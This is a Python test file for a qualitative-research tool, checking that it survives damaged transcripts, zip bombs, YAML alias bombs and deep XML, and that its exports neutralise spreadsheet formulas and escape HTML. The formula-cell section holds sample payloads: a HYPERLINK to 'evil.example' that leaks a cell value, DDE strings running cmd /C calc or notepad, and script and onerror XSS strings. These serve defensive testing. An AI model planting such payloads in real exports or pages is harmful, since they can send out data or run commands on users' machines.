"""Hostile and damaged files (issue 17): no crash, bounded time and memory, neutral cells.

Time limits live in bench/bench_hostile.py; these tests check behaviour (clean errors with
a hint, exact offsets) and memory where it is cheap to measure.
"""

from __future__ import annotations

import codecs
import csv
import io
import logging
import re
import tracemalloc
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner

from qualcode import codebook_io, ingest, services
from qualcode.cli import main
from qualcode.errors import CodebookError, IngestError
from qualcode.export.tables import DANGEROUS, csv_text
from qualcode.ingest import pdf as pdf_reader
from qualcode.ingest.segment import MAX_PIECE
from qualcode.services.throttle import Throttle
from tests.fuzz import _docx, _xlsx
from tests.hostile_files import pdf_bytes, text_pdf, transcript_lines, yaml_alias_bomb, zip_bomb


# ----------------------------------------------------------------------------- 1. readers
def test_bom_then_invalid_byte_is_read_leniently():
    body = "Interviewer: How did it start?\n\nAna Ruiz: With trust " + "and time. " * 200
    data = codecs.BOM_UTF8 + body.encode() + b" \xff then more.\n"
    doc = ingest.parse_bytes(data, "bom.txt").document
    assert "\ufffd" in doc.text
    doc.check_offsets()


@pytest.mark.parametrize("data,name", [  # found by bench/bench_fuzz.py (23 of 10,000 cases crashed)
    (b"WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v In zone. We did not jump to solutions" + b" at all" * 20
     + b"\n\n00:00:05.000 --> 00:00:06.000\n<v Ana>Yes.\n", "cut.vtt"),
    (b"1\n00:00:01,000 --> 00:00:03,500\nINTERVIEWER: How was it?\n\n2\n00:00:03,600 --> 00:00:08,000\n"
     b"P" + b":" * 60 + b"<v.x" + b"y" * 90 + b"\n", "cut.srt"),
])
def test_voice_tag_that_does_not_open_is_text(data, name):
    try:
        doc = ingest.parse_bytes(data, name).document
    except IngestError:
        return  # a clean refusal is fine; an IndexError was not
    doc.check_offsets()


def test_bom_then_mostly_garbage_is_refused():
    with pytest.raises(IngestError) as err:
        ingest.parse_bytes(codecs.BOM_UTF8 + b"Ana: hi \xff\xfe\xfa\xfb\xfc" * 50, "bom.txt")
    assert err.value.hint


def test_turn_over_a_million_characters_has_exact_offsets():
    speech = " ".join(f"We met in week {i} and the trust grew" for i in range(30_000))  # ~1.1 M chars, one line
    assert len(speech) > 1_000_000
    data = f"Interviewer: Go on.\n\nAna Ruiz: {speech}.\n".encode()
    doc = ingest.parse_bytes(data, "long.txt").document
    doc.check_offsets()
    assert max(e.end - e.start for e in doc.excerpts) <= MAX_PIECE
    assert sum(len(e.text) for e in doc.excerpts) > 1_000_000


def _rezip(data: bytes, edit) -> bytes:
    z = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as w:
        for i in z.infolist():
            body = edit(i.filename, z.read(i))
            if body is not None:
                w.writestr(i.filename, body)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize("edit", [
    lambda n, d: d[: len(d) // 2] if n == SHEET else d,  # bad sheet XML
    lambda n, d: b'<!DOCTYPE x [<!ENTITY e "boom">]>' + d.split(b"?>", 1)[-1] if n == SHEET else d,
    lambda n, d: d.replace(b'r="A2"', b'r="A2("') if n == SHEET else d,  # odd cell reference
    lambda n, d: None if n.startswith("xl/worksheets/") else d,  # no worksheet
    lambda n, d: d.replace(b"<sheet ", b"<sheetx ") if n == "xl/workbook.xml" else d,
], ids=["bad-xml", "dtd", "cell-ref", "no-worksheet", "no-sheet-entry"])
def test_damaged_xlsx_is_a_clean_error_or_reads(edit):
    data = _rezip(_xlsx(), edit)
    try:
        doc = ingest.parse_bytes(data, "damaged.xlsx").document
    except IngestError as exc:
        assert exc.hint and exc.file == "damaged.xlsx"
    else:
        doc.check_offsets()


def test_xlsx_text_is_nfc_like_csv():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["speaker", "text"])
    ws.append(["Rene\u0301", "Cafe\u0301 and the e\u0301quipe\r\nmet."])
    buf = io.BytesIO()
    wb.save(buf)
    from_xlsx = ingest.parse_bytes(buf.getvalue(), "a.xlsx").document
    from_csv = ingest.parse_bytes("speaker,text\nRene\u0301,\"Cafe\u0301 and the e\u0301quipe\r\nmet.\"\n".encode(),
                                  "a.csv").document
    assert from_xlsx.text == from_csv.text
    assert "Ren\u00e9" in from_xlsx.text and "Caf\u00e9" in from_xlsx.text


# ----------------------------------------------------------------------------- 3. PDF memory
def test_pdf_pages_are_laid_out_one_at_a_time():
    logging.getLogger("pdfminer").setLevel(logging.ERROR)
    lines = transcript_lines(8 * 60)
    data = pdf_bytes([lines[i:i + 60] for i in range(0, len(lines), 60)], compress=False)
    tracemalloc.start()
    try:
        raw = pdf_reader.read_pdf(data, file="eight.pdf")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert len(raw.turns) >= 400
    # one page of ~6,000 characters at ~2.7 KB each, not all eight pages (~130 MB before)
    assert peak < 60 * 1024 * 1024, peak


def test_pdf_page_with_too_much_content_is_refused():
    data = text_pdf(pdf_reader.MAX_PAGE_CONTENT + 50_000, lines_per_page=100_000)  # one huge page
    with pytest.raises(IngestError) as err:
        pdf_reader.read_pdf(data, file="huge-page.pdf")
    assert "page 1" in err.value.message and err.value.hint


# ----------------------------------------------------------------------------- 4. zip bombs
@pytest.mark.parametrize("member,name", [("word/document.xml", "bomb.docx"), (SHEET, "bomb.xlsx")])
def test_zip_bomb_stops_at_the_cap(monkeypatch, member, name):
    monkeypatch.setenv("QUALCODE_MAX_UNZIPPED_MB", "4")
    seed = _docx() if name.endswith(".docx") else _xlsx()
    others = {n: d for n, d in ((i.filename, zipfile.ZipFile(io.BytesIO(seed)).read(i))
                                for i in zipfile.ZipFile(io.BytesIO(seed)).infolist()) if n != member}
    data = zip_bomb(member, 12, others=others)
    assert len(data) < 100_000
    with pytest.raises(IngestError) as err:
        ingest.parse_bytes(data, name)
    assert "unpacks to more than 4 MB" in err.value.message and "max_unzipped_mb" in err.value.hint


# ----------------------------------------------------------------------------- 6. codebooks
def test_yaml_alias_bomb_is_refused(tmp_path):
    p = tmp_path / "bomb.yaml"
    p.write_text(yaml_alias_bomb(), encoding="utf-8")
    assert p.stat().st_size < 1024
    tracemalloc.start()
    try:
        with pytest.raises(CodebookError) as err:
            codebook_io.load_codebook(p)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "aliases expand" in err.value.message and err.value.file == str(p)
    assert peak < 50 * 1024 * 1024


def test_self_referring_alias_is_refused(tmp_path):
    p = tmp_path / "loop.yaml"
    p.write_text("name: x\ncodes: &c\n  - id: a\n    name: A\n    definition: d\n    examples: *c\n", encoding="utf-8")
    with pytest.raises(CodebookError) as err:
        codebook_io.load_codebook(p)
    assert "refers to the entry it sits in" in err.value.message


def test_a_few_aliases_still_work(tmp_path):
    p = tmp_path / "ok.yaml"
    p.write_text("name: x\ncodes:\n  - id: a\n    name: A\n    definition: &d Shared definition.\n"
                 "  - id: b\n    name: B\n    definition: *d\n", encoding="utf-8")
    assert codebook_io.load_codebook(p).get("b").definition == "Shared definition."


@pytest.mark.parametrize("text", [
    "a: 1\nb: [1, 0x1F, 1_000, 1.5, .inf, ~, yes, true, 'yes', \"q\", -3, 0o17, +12, 1e3, off, NO, Null]\n",
    "x: &a {k: v, n: [1, 2]}\ny: *a\nz: [*a, *a]\n",                 # aliases: one shared object
    "base: &b {a: 1}\nm:\n  <<: *b\n  c: 2\n",                          # merge key: PyYAML builds it
    "d: 2001-12-14\ns: !!str 5\nb: !!binary aGk=\n",                     # timestamp, explicit tags
    "- a\n- b: c\n- [1, [2, [3]]]\n", "just text\n", "", "a: 1\na: 2\n", "n: .nan\ne: {}\nf: []\n",
    "name: x\ncodes:\n  - id: a\n    name: A\n    definition: |\n      two\n      lines\n    keywords: [k, 2]\n",
])
def test_fast_yaml_build_gives_what_safe_load_gives(text):
    import yaml

    from qualcode.codebook_io.yaml_io import parse_yaml

    data, _lines, problems = parse_yaml(text)
    assert repr(data) == repr(yaml.safe_load(text)) and not [p for p in problems if "not valid" in p.message]
    if text.startswith("x:"):
        assert data["y"] is data["x"] and data["z"][0] is data["x"]


def test_alias_bomb_behind_an_unusual_tag_is_still_refused(tmp_path):
    p = tmp_path / "bomb.yaml"  # a timestamp first sends the document to PyYAML's constructor
    p.write_text("when: 2001-12-14\n" + yaml_alias_bomb(), encoding="utf-8")
    with pytest.raises(CodebookError, match="aliases expand"):
        codebook_io.load_codebook(p)


def test_codes_not_a_list_names_file_and_line(tmp_path):
    p = tmp_path / "five.yaml"
    p.write_text("name: x\ncodes: 5\n", encoding="utf-8")
    with pytest.raises(CodebookError) as err:
        codebook_io.load_codebook(p)
    assert err.value.file == str(p) and err.value.line == 2 and "must be a list" in err.value.message


def test_deeply_nested_qdc_is_no_recursion_error(tmp_path):
    depth = 1500
    body = "".join(f'<Code guid="{i:08d}-0000-4000-8000-000000000000" name="c{i}" isCodable="true">'
                   for i in range(depth)) + "</Code>" * depth
    p = tmp_path / "deep.qdc"
    p.write_text(f'<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>{body}</Codes></CodeBook>', encoding="utf-8")
    try:
        cb = codebook_io.load_codebook(p)
    except CodebookError as exc:  # libxml2 refuses very deep documents: a located, clean error
        assert exc.file == str(p)
    else:
        assert len(cb.codes) == depth


def test_many_codes_import_in_one_go(tmp_path):
    n = 3000
    p = tmp_path / "many.yaml"
    p.write_text("name: Many\ncodes:\n" + "".join(
        f"  - id: c{i}\n    name: Code {i}\n    definition: Talk about {i}.\n"
        + (f"    parent: c{i - i % 10}\n" if i % 10 else "") for i in range(n)), encoding="utf-8")
    ctx = services.init_project(tmp_path / "proj", coder="ana")
    from qualcode.services import codebook as cbs

    got = cbs.import_codebook(ctx, p)
    assert len(got["added"]) == n
    cb = cbs.get_codebook(ctx)
    assert cb.get("c1234").parent == "c1230"
    ctx.close()


# ----------------------------------------------------------------------------- 7. formula cells
EVIL_CODER = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_SPEAKER = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_CODE = "+cmd|' /C notepad'!A0"
EVIL_ATTR = "-2+3+cmd|' /C calc'!A0"


def _assert_neutral(value, where):
    if isinstance(value, str):
        assert not value.startswith(DANGEROUS), (where, value)


def _check_csv(text: str, where: str) -> int:
    n = 0
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for cell in row:
            _assert_neutral(cell, where)
            n += 1
    return n


def _check_xlsx(data: bytes, where: str) -> int:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    n = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, cell.coordinate, cell.value)
                _assert_neutral(cell.value, where)
                n += 1
    return n


def test_csv_text_is_the_one_writer():
    text = csv_text(["a", "=b"], [["=1", "+2", "-3", "@4", "\t5", "\r6", "ok", 7]])
    assert text.splitlines()[1].startswith("'=1,'+2,'-3,'@4,'\t5,")
    assert "'=b" in text


def test_every_export_and_cli_csv_neutralises_formulas(tmp_path):
    proj = tmp_path / "proj"
    ctx = services.init_project(proj, coder=EVIL_CODER)
    from qualcode.services import codebook as cbs
    from qualcode.services import coding as coding_svc
    from qualcode.services import ingest as ingest_svc
    from qualcode.storage import documents as doc_store

    cbs.add_code(ctx, {"id": "evil", "name": EVIL_CODE, "definition": "@SUM(A1) and <script>alert(1)</script>"})
    src = tmp_path / "=evil-doc.csv"
    src.write_text("speaker,text\nInterviewer,What happened?\n"
                   f"\"{EVIL_SPEAKER}\",\"=1+1 is what we said. <img src=x onerror=alert(1)> We trusted it.\"\n"
                   "Interviewer,And then?\n"
                   f"\"{EVIL_SPEAKER}\",\"-5 points, then we scaled it.\"\n", encoding="utf-8")
    ingest_svc.ingest_paths(ctx, [src], attrs={"district": EVIL_ATTR}, deidentify=True, names=[EVIL_SPEAKER])
    with ctx.session(readonly=True) as s:
        doc_id = doc_store.list_documents(s)[0]["id"]
        excerpts = [e for e in doc_store.load_document(s, doc_id).excerpts if e.codable]
    assert excerpts
    for e in excerpts:
        coding_svc.add_coding(ctx, e.id, "evil")
    ctx.close()

    def cli(*args):
        r = CliRunner().invoke(main, ["--project", str(proj), "--coder", EVIL_CODER, *args])
        assert r.exit_code == 0, (args, r.output, r.exception)
        return r

    checked = {}
    for what, extra in [("excerpts", []), ("frequencies", ["--by", "district"]), ("crosstab", ["--by", "district"]),
                        ("compare", ["--by", "district"]), ("cooccurrence", []), ("matrix", [])]:
        for fmt in ("csv", "xlsx"):
            out = tmp_path / f"{what}.{fmt}"
            cli("export", what, str(out), *extra)
            checked[out.name] = (_check_csv(out.read_text(encoding="utf-8"), out.name) if fmt == "csv"
                                 else _check_xlsx(out.read_bytes(), out.name))
    out = tmp_path / "audit.csv"
    cli("audit", "--csv", str(out))
    checked["audit.csv"] = _check_csv(out.read_text(encoding="utf-8"), "audit")
    assert "HYPERLINK" in out.read_text(encoding="utf-8")  # the coder is there, neutralised
    out = tmp_path / "key.csv"
    cli("pseudonyms", "--export-key", str(out))
    checked["key.csv"] = _check_csv(out.read_text(encoding="utf-8"), "key")
    assert "SUM(1+1)" in out.read_text(encoding="utf-8")
    out = tmp_path / "p.qdpx"
    cli("export", "qdpx", str(out), "--include-key")
    key = zipfile.ZipFile(out).read("deidentification-key.csv").decode("utf-8")
    checked["qdpx key"] = _check_csv(key, "qdpx key")
    assert "SUM(1+1)" in key
    assert all(n > 1 for n in checked.values()), checked
    out = tmp_path / "report.md"
    cli("export", "report", str(out))
    md = out.read_text(encoding="utf-8")
    assert "script>alert" in md  # the definition is there...
    assert not re.search(r"(?<!\\)<(script|img)", md), md  # ...with every "<" escaped


# ----------------------------------------------------------------------------- 9. sign-in
def test_throttle_backs_off_per_user_and_per_client():
    now = [1000.0]
    t = Throttle(free=3, base_s=2.0, max_s=60.0, clock=lambda: now[0])
    for _ in range(3):
        assert t.wait_s(user="ana", client="a") == 0.0
        t.failed(user="ana", client="a")
    assert t.wait_s(user="ana", client="a") == 0.0  # three free tries
    t.failed(user="ana", client="a")
    assert t.wait_s(user="ANA ", client="elsewhere") == 2.0  # per user, whatever the address
    assert t.wait_s(user="bob", client="a") == 2.0  # per client, whatever the name
    assert t.wait_s(user="bob", client="b") == 0.0
    t.failed(user="ana", client="a")
    assert t.wait_s(user="ana") == 4.0
    for _ in range(20):
        t.failed(user="ana", client="a")
    assert t.wait_s(user="ana") == 60.0
    now[0] += 61
    assert t.wait_s(user="ana", client="a") == 0.0
    t.succeeded(user="ana")
    assert t.wait_s(user="ana") == 0.0 and t.wait_s(client="a") == 0.0


def test_throttle_keeps_a_bounded_number_of_keys():
    t = Throttle(max_keys=100)
    for i in range(1000):
        t.failed(user=f"user{i}")
    assert len(t._fails) <= 100
